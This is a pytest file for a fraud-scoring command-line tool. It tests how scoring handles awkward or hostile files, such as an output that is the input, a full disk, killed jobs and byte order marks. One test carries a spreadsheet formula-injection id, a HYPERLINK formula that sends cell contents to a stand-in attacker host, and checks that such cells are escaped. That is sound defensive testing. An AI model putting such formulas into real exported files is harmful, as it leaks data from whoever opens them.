"""`fraud-mlops score` and the data readers against clumsy and hostile files (issue 14, "Files"): an output that is the
input, a folder, a full disk, a file too large, a job killed half-way, a stale bad-rows list, a byte order mark, and
ids that a spreadsheet would run. Each test says what happened before."""
import csv, errno, os, resource, signal, subprocess, sys
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow.csv as pcsv
import pytest

from fraud_mlops.data import FEATURES, load_transactions
from fraud_mlops.scoring import score_file, sidecar

BIN = Path(sys.executable).parent


@pytest.fixture
def ci_csv(ci_df, tmp_path):
    "The CI subset with an id column, as a CSV in a folder of the test's own."
    df = ci_df.copy(); df.insert(0, 'id', np.arange(len(df)) + 1_000_000)
    (tmp_path/'in').mkdir(); df.to_csv(tmp_path/'in'/'ci.csv', index=False)
    return tmp_path/'in'/'ci.csv'


def leftovers(folder):
    "Temporary files in `folder` (hidden names, as `data.temp_file` makes them)."
    return sorted(p.name for p in Path(folder).iterdir() if p.name.startswith('.'))


def test_output_equal_to_the_input_is_refused_under_any_name(cli, champion, store, ci_csv, tmp_path):
    "Before: `score X X` scored X and renamed the scores onto it (the transactions were gone), exit 0. Now: exit 2, X untouched."
    before = ci_csv.read_bytes()
    (tmp_path/'link.csv').symlink_to(ci_csv); os.link(ci_csv, tmp_path/'hard.csv')
    for out in (ci_csv, tmp_path/'in'/'..'/'in'/'ci.csv', tmp_path/'link.csv', tmp_path/'hard.csv'):
        r = cli('score', ci_csv, out, '--store', store.root)
        assert r.returncode == 2 and 'is the input' in r.stderr and 'Traceback' not in r.stderr, (out, r.stderr)
        assert r.stderr.splitlines()[0] == f'store: {store.root}' and len(r.stderr.strip().splitlines()) == 2   # the store used, then one line
    assert ci_csv.read_bytes() == before and (tmp_path/'hard.csv').read_bytes() == before
    assert leftovers(tmp_path/'in') == [] and leftovers(tmp_path) == []


def test_an_existing_folder_as_output_is_one_line_and_exit_2(cli, champion, store, ci_csv, tmp_path):
    "Before: the whole file was scored, then os.replace failed: IsADirectoryError traceback, exit 1. Now: refused before reading."
    (tmp_path/'out.csv').mkdir()
    r = cli('score', ci_csv, tmp_path/'out.csv', '--store', store.root)
    assert r.returncode == 2 and r.stderr.strip() == f'store: {store.root}\nerror: {tmp_path}/out.csv: is a folder; name a file to write'
    assert list((tmp_path/'out.csv').iterdir()) == [] and leftovers(tmp_path) == []


class FullDisk:
    "Arrow's CSV writer on a disk that fills up: the first chunk is written to the real file, the second meets ENOSPC, worded as Arrow words it."
    real = pcsv.CSVWriter
    def __init__(self, path, schema): self.writer, self.chunks = self.real(path, schema), 0
    def write_table(self, table):
        self.chunks += 1
        if self.chunks > 1: raise OSError(errno.ENOSPC, 'Error writing bytes to file. Detail: [errno 28] No space left on device')
        self.writer.write_table(table)
    def close(self): self.writer.close()


def test_a_full_disk_is_one_line_exit_2_and_leaves_the_old_output(champion, store, ci_csv, tmp_path, monkeypatch, capsys):
    """Before: Arrow's OSError [Errno 28] went up as a traceback, exit 1 (the temporary file was removed).
    Now: exit 2, one line naming the output; the half-written temporary file is removed and an earlier output is untouched."""
    from fraud_mlops.cli import main
    (tmp_path/'out.csv').write_text('scores of yesterday\n')
    monkeypatch.setattr(pcsv, 'CSVWriter', FullDisk)
    with pytest.raises(SystemExit) as e:
        main(['score', str(ci_csv), str(tmp_path/'out.csv'), '--store', str(store.root), '--chunk-rows', '3000'])
    err = capsys.readouterr().err.strip()
    assert e.value.code == 2 and err == f'store: {store.root}\nerror: {tmp_path}/out.csv: cannot write it (No space left on device); nothing was written'
    assert (tmp_path/'out.csv').read_text() == 'scores of yesterday\n' and leftovers(tmp_path) == []


def _file_size_limit(limit):
    "For `preexec_fn`: files of at most `limit` bytes, and SIGXFSZ ignored, so an oversized write fails with EFBIG instead of killing."
    def apply():
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
    return apply


def test_a_file_too_large_is_one_line_exit_2_and_leaves_nothing(champion, store, ci_csv, tmp_path):
    """`ulimit -f` of 200 kB (the scores of the CI subset are ~700 kB): the kernel fails the write with EFBIG.
    Before: traceback, exit 1. Now: exit 2, one line; no output and no temporary file."""
    env = {**os.environ, 'PYTHONDONTWRITEBYTECODE': '1'}
    r = subprocess.run([BIN/'fraud-mlops', 'score', ci_csv, tmp_path/'out.csv', '--store', store.root, '--chunk-rows', '2000'],
                       capture_output=True, text=True, env=env, preexec_fn=_file_size_limit(200_000))
    assert r.returncode == 2, r.stderr
    assert r.stderr.strip() == f'store: {store.root}\nerror: {tmp_path}/out.csv: cannot write it (File too large); nothing was written'
    assert not (tmp_path/'out.csv').exists() and leftovers(tmp_path) == []


KILLED = r'''
import os, signal, sys
from fraud_mlops import scoring
write = scoring.AnswerWriter.write
def write_then_die(self, table):
    write(self, table); self.writer.close(); os.kill(os.getpid(), signal.SIGKILL)   # killed half-way, as by the OOM killer
scoring.AnswerWriter.write = write_then_die
scoring.score_file(sys.argv[1], sys.argv[2], sys.argv[3], rows=2_000, progress=False)
'''


def test_a_killed_jobs_temporary_file_is_removed_by_the_next_job(cli, champion, store, ci_csv, tmp_path):
    """A job killed while writing cannot clean up. Before: its `.out.csv.<hex>.tmp` stayed forever (random name, no owner).
    Now: it is locked while written; the next job for the same output removes every one no live process holds."""
    r = subprocess.run([sys.executable, '-c', KILLED, ci_csv, tmp_path/'out.csv', store.root], capture_output=True, text=True)
    assert r.returncode == -signal.SIGKILL, r.stderr
    left = leftovers(tmp_path)
    assert len(left) == 1 and left[0].startswith('.out.csv.') and (tmp_path/left[0]).stat().st_size > 0   # half an output
    r = cli('score', ci_csv, tmp_path/'out.csv', '--store', store.root)
    assert r.returncode == 0, r.stderr
    assert leftovers(tmp_path) == [] and len(pd.read_csv(tmp_path/'out.csv')) == 10_000


def test_a_clean_run_removes_the_bad_rows_list_of_an_earlier_run(cli, champion, store, ci_df, ci_csv, tmp_path):
    "Before: `out.csv.bad_rows.csv` from a run with bad rows stayed beside the next, clean, output, listing rows it had scored."
    bad = pd.read_csv(ci_csv).astype({'V1': object}); bad.loc[3, 'V1'] = 'n/a'; bad.to_csv(tmp_path/'bad.csv', index=False)
    assert cli('score', tmp_path/'bad.csv', tmp_path/'out.csv', '--store', store.root).returncode == 0
    assert pd.read_csv(sidecar(tmp_path/'out.csv')).row.tolist() == [4]
    r = cli('score', ci_csv, tmp_path/'out.csv', '--store', store.root)
    assert r.returncode == 0 and not Path(sidecar(tmp_path/'out.csv')).exists()
    r = cli('score', tmp_path/'bad.csv', tmp_path/'out.csv', '--store', store.root, '--on-error', 'fail')
    assert r.returncode == 2 and not Path(sidecar(tmp_path/'out.csv')).exists()   # a failed run changes nothing


def test_a_byte_order_mark_is_read_by_scoring_and_by_training(champion, store, ci_df, ci_csv, tmp_path):
    """Excel's "CSV UTF-8" starts the file with a BOM. Before: scoring read the first column as '\\ufeffid' (or '\\ufeffTime':
    "wrong columns (missing: ['Time']"). Training's `load_transactions` (pandas) read it already; now both do."""
    (tmp_path/'bom.csv').write_bytes(b'\xef\xbb\xbf' + ci_csv.read_bytes())
    for src in (ci_csv, tmp_path/'bom.csv'):
        score_file(src, tmp_path/f'{src.stem}.out.csv', store.root, progress=False)
    pd.testing.assert_frame_equal(pd.read_csv(tmp_path/'bom.out.csv'), pd.read_csv(tmp_path/'ci.out.csv'))
    ci_df.to_csv(tmp_path/'train.csv', index=False, encoding='utf-8-sig')
    assert (tmp_path/'train.csv').read_bytes()[:3] == b'\xef\xbb\xbf'
    assert load_transactions(tmp_path/'train.csv').equals(ci_df)
    no_id = ci_df[FEATURES]; no_id.to_csv(tmp_path/'features.csv', index=False, encoding='utf-8-sig')   # Time first, as in the issue
    assert score_file(tmp_path/'features.csv', tmp_path/'f.out.csv', store.root, progress=False)['scored'] == 10_000


def test_ids_a_spreadsheet_would_run_are_escaped_in_csv_output(champion, store, ci_df, tmp_path):
    """Before: an id `=HYPERLINK(...)` was written as is into out.csv, a live formula when the file is opened in a spreadsheet.
    Now: text cells starting with = + - @ tab or CR get a leading ' (OWASP); numbers stay numbers; Parquet keeps the ids as given."""
    ids = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+1', '-2', '@SUM(A1:A9)', '\tx', '\rx', 'tx-7', 'ok']
    df = ci_df[FEATURES].iloc[:len(ids)].copy(); df.insert(0, 'id', ids)
    df.to_csv(tmp_path/'in.csv', index=False, quoting=csv.QUOTE_NONNUMERIC)   # pandas leaves a lone CR unquoted otherwise
    score_file(tmp_path/'in.csv', tmp_path/'out.csv', store.root, progress=False)
    score_file(tmp_path/'in.csv', tmp_path/'out.parquet', store.root, progress=False)
    out = pd.read_csv(tmp_path/'out.csv', keep_default_na=False)
    assert out.id.tolist() == ["'" + i if i[0] in '=+-@\t\r' else i for i in ids]
    assert pd.read_parquet(tmp_path/'out.parquet').id.tolist() == ids
    assert out.fraud_probability.dtype == np.float64 and out.prediction.isin(['legit', 'fraud']).all()
    df['id'] = -1.5 - np.arange(len(ids)); df.to_csv(tmp_path/'num.csv', index=False)             # a numeric id column
    score_file(tmp_path/'num.csv', tmp_path/'num.out.csv', store.root, progress=False)
    assert pd.read_csv(tmp_path/'num.out.csv').id.tolist() == df.id.tolist()                       # -1.5 stays -1.5
